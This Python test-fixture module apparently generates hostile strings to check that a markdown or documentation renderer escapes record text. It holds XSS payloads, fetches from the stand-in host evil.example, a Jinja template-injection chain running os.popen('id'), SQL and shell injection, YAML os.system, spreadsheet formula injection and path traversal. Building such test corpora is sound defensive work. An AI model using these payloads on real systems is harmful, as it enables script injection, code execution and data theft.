"""Hostile text by composition: what opens a context or closes one, times what acts in it.

Whatever runs calls ``boom()``; whatever fetches asks ``evil.example`` or the path ``x``. Each string is one line, as a
record's text has to be.
"""

from collections.abc import Iterable
from itertools import product
from typing import Final

BREAKING_OUT: Final = (
    *("", '">', "'>", "</script>", "</style>", "</title>", "</details>", "</q></p></div>", "]]>", "-->"),
)
"""Ends of whatever a text might stand in."""
ACTIVE: Final = (
    *("<script>boom()</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=boom()>"),
    *("<svg/onload=boom()>", "<details open ontoggle=boom()>", "<input autofocus onfocus=boom()>"),
    *(
        "<video><source onerror=boom()></video>",
        "<style onload=boom()>",
        "<iframe srcdoc='<script>top.boom()</script>'>",
    ),
    *("<iframe src=javascript:boom()>", "<object data=//evil.example/x>", "<embed src=//evil.example/x>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>"),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>"),
    *("<form action=//evil.example><button>q</button></form>", "<img src=//evil.example/x.png>"),
    *("<a href=javascript:boom()>q</a>", "<math><mi xlink:href=javascript:boom()>q</mi></math>"),
    *("<p style=position:fixed>q</p>", "<q onmouseover=boom()>q</q>", "<x id=atlas>"),
)
URLS: Final = (
    *("javascript:boom()", "JaVaScRiPt:boom()", "javascript&colon;boom()", "java&#115;cript:boom()", "vbscript:boom()"),
    *("data:text/html,<script>boom()</script>", "//evil.example/x", "https://evil.example/x", "file:///etc/passwd"),
)
LINKS: Final = ("[q](%s)", "![q](%s)", "<%s>", "[q]: %s", '[q](<%s> "q")', '<a href="%s">q</a>', "url(%s)")
MARKED: Final = ("*q*", "# q", "[q](x)", "![q](x)", "`q`", "q")
ATTRIBUTE_LISTS: Final = (
    *(
        "{: onclick=boom() }",
        "{: onmouseover='boom()' }",
        '{onclick="boom()"}',
        "{: style=background:url(//evil.example/x) }",
    ),
    *("{: #atlas .q }", "{:target=_blank href=javascript:boom()}"),
)
OPENING: Final = ("{{ %s }}", "{%% %s %%}", "${%s}", "#{%s}", "<%%= %s %%>", "{# %s #}")
EXPRESSIONS: Final = (
    *("7*7", "config.site_name", "''.__class__.__mro__", "raw", "endraw", "include 'mkdocs.yml'", "page.content|safe"),
    "cycler.__init__.__globals__.os.popen('id').read()",
)
INCLUDING: Final = (
    *('--8<-- "mkdocs.yml"', ';--8<-- "mkdocs.yml"', '--8<-- "https://evil.example/x.md"', "{!README.md!}"),
    *("!include mkdocs.yml", "::: build_tools.core", "<!--#include file=x-->", "![[README]]", "-8<- 'README.md'"),
)
MARKDOWN: Final = (
    *(
        "| a | b |",
        "|---|---|",
        "a | b",
        "[^1]",
        "[^1]: q",
        "*[HTML]: q",
        "***q***",
        "~~q~~",
        "==q==",
        "^^q^^",
        "++q++",
    ),
    *("> q", "- q", "1. q", "- [x] q", "---", "***", "```js", "~~~", ":   q", "!!! note", "??? q", '=== "q"', "[TOC]"),
    *(
        ":smile:",
        ":material-alert:",
        "(c) (tm) +/- -->",
        "H~2~O",
        "$x$",
        r"\(x\)",
        r"\*q\*",
        r"q\\q",
        "q  ",
        "[[q]]",
        "@q #1",
    ),
    *(
        "wzxhzdk:0",
        "klzzwxh:0001",
        "<!-- more -->",
        "www.evil.example",
        "http://evil.example/x",
        "q@evil.example",
        "$$x$$",
    ),
)
UNCLOSED: Final = (
    *(
        "<div",
        "<div>",
        "<!--",
        "<![CDATA[",
        "<?php",
        "<textarea>",
        "<title>",
        "<plaintext>",
        "<xmp>",
        "<noscript>",
        "<",
    ),
    *(
        '<a href="',
        "<img src='",
        "<style>",
        "<script>",
        "</",
        "&",
        "&#",
        "&#x",
        '"',
        "'",
        "`",
        "<select>",
        "<table>",
        "<svg>",
    ),
    *(
        "</main>",
        "</body></html>",
        "</article>",
        "</summary>",
        "</a>",
        "<frameset>",
        "<template>",
        "--!>",
        "<!",
        "{{",
        "{%",
    ),
)
ENTITIES: Final = (
    *(
        "&lt;script&gt;boom()&lt;/script&gt;",
        "&amp;lt;b&amp;gt;",
        "&#60;b&#62;",
        "&#x3c;b&#x3e;",
        "&copy",
        "&nbsp;",
        "&lang",
    ),
    *(
        r"\u003cscript\u003eboom()\u003c/script\u003e",
        r"\x3cb\x3e",
        "%3Cscript%3Eboom()%3C/script%3E",
        "＜script＞",
        "&notit;",
    ),
    *(
        "+ADw-script+AD4-boom()+ADw-/script+AD4-",
        r"\074b\076",
        "&#128;",
        "&#0;",
        "&zwj;",
        "&rlm;",
        "&Tab;",
        "&NewLine;",
    ),
)
ELSEWHERE: Final = (
    *(
        '=HYPERLINK("https://evil.example")',
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "=cmd|' /C q'!A1",
        'a,"b",c',
        "a;b",
        "a\\tb",
    ),
    *("::error::q", "::add-mask::q", "::set-output name=q::q", "##[group]q", "%0A::error::q", "%s %(q)s %%", "{0} {q}"),
    *(
        "q{background:url(//evil.example/x)}",
        "expression(boom())",
        "*/}body{display:none}/*",
        "@import '//evil.example/x'",
    ),
    *(
        "'; DROP TABLE records; --",
        "$(boom)",
        "`boom`",
        "; boom",
        "../../etc/passwd",
        "__proto__",
        "constructor",
        "null",
    ),
    *("!!python/object/apply:os.system [q]", "<<: *q", "? q", "- - q", "true", "0x10", "1e3", "~", "NO", "2018-10-16"),
    *("  q".strip(), "日本 <b>", "Ё <i>", "🙂 <u>", "q\u0301<s>", "𝒳<tt>", "ﬁ<em>", "İ<b>"),
)


def _composed() -> Iterable[str]:
    yield from map("".join, product(BREAKING_OUT, ACTIVE))
    yield from (frame % url for frame, url in product(LINKS, URLS))
    yield from map("".join, product(MARKED, ATTRIBUTE_LISTS))
    yield from (opening % said for opening, said in product(OPENING, EXPRESSIONS))
    yield from (*INCLUDING, *MARKDOWN, *UNCLOSED, *ENTITIES, *ELSEWHERE)


STRINGS: Final = tuple(dict.fromkeys(one.strip() for one in _composed()))
"""Each once; all of them may stand in a record."""

REFUSED: Final = (
    *(
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u202e",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
    ),
    *(
        "\x00",
        "\x07",
        "\x1b",
        "\x7f",
        "\x80",
        "\x9b",
        "\u2028",
        "\u2029",
        "\ufeff",
        "\ufffe",
        "\ufdd0",
        "\ue000",
        "\u200b",
    ),
)
"""Characters that turn the direction of text, steer a terminal, or show nothing: no record may hold one."""

LONGEST: Final = 1900
"""Of a text; a record's may have 2000 characters."""


def batches() -> tuple[tuple[str, ...], ...]:
    """All strings in as few groups as there must be for the joined ones of each to fit into one text."""
    made: list[list[str]] = [[]]
    for one in STRINGS:
        if len(joined((*made[-1], one), 0)) > LONGEST:
            made.append([])
        made[-1].append(one)
    return tuple(map(tuple, made))


def joined(strings: tuple[str, ...], first: int) -> str:
    """The strings in one text, beginning with the one at ``first``: each of them is to begin some text."""
    turn = first % len(strings)
    return " ".join((*strings[turn:], *strings[:turn]))
